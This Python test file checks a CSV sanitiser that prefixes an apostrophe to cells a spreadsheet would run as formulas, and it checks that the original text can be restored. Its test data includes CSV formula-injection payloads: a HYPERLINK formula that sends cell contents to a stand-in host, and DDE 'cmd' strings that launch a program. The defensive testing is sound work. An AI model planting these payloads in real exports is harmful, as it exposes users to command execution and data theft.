"""No cell of a CSV file is a formula for a spreadsheet, numbers stay numbers, and each text can be had back."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fairdedup.storage.csv_cells import STARTS, neutralise_cell, restore_cell

CELLS = {
    '=HYPERLINK("http://x/?"&A1)': '\'=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\n=1": "'\n'=1",
    "a;=cmd|' /C calc'!A0;": "a;'=cmd|' /C calc'!A0;",
    "a\t@SUM(1)": "a\t'@SUM(1)",
    "a\n+1": "a\n'+1",
    "a;'=1;-2": "a;''=1;'-2",
    "a;b, =1": "a;b, =1",
    "\uff1d1+1": "'\uff1d1+1",
    "-": "'-",
    "--5": "'--5",
    "-a": "'-a",
    "'=1": "''=1",
    "''=1": "'''=1",
    "-5": "-5",
    "+0.5": "+0.5",
    "-1e-5": "-1e-5",
    "'quoted'": "'quoted'",
    "a=b": "a=b",
    "": "",
    "5": "5",
}


@pytest.mark.parametrize("text", CELLS)
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise_cell(text) == CELLS[text]
    assert restore_cell(CELLS[text]) == text


@pytest.mark.parametrize("value", [-5, -0.25, 3, None, True, float("-inf")])
def test_what_is_no_text_stays(value):
    assert neutralise_cell(value) is value


@given(st.text(alphabet=st.sampled_from([*STARTS, ";", "'", "a", "1", ".", " "]), max_size=8))
def test_every_text_can_be_had_back_and_no_cell_begins_as_a_formula(text):
    cell = neutralise_cell(text)
    assert isinstance(cell, str) and restore_cell(cell) == text
    parts = re.split("[;\t\r\n]", cell)
    assert all(part[:1] not in tuple(STARTS) for part in parts) or float(cell) is not None  # a number
